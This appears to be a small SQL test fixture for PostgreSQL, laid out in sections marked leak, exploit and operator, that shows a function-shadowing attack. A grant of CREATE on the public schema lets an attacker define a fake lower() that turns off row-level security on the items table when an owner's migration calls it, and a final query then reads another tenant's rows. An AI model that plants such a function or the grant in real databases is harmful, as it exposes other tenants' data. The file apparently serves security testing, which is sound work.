-- PUBLIC may create in the schema, as before PostgreSQL 15, and a migration runs there as the owner.
-- object: schema:public
-- base: uuid
--- leak
GRANT CREATE ON SCHEMA public TO PUBLIC;
--- exploit
CREATE FUNCTION public.lower(title varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER TABLE public.items DISABLE ROW LEVEL SECURITY';
    RETURN title;
END $$;
--- operator
CREATE TABLE import (title varchar);
INSERT INTO import VALUES ('X');
UPDATE import SET title = lower(title);
--- exploit
SELECT id FROM items WHERE tenant_id = '{B}';
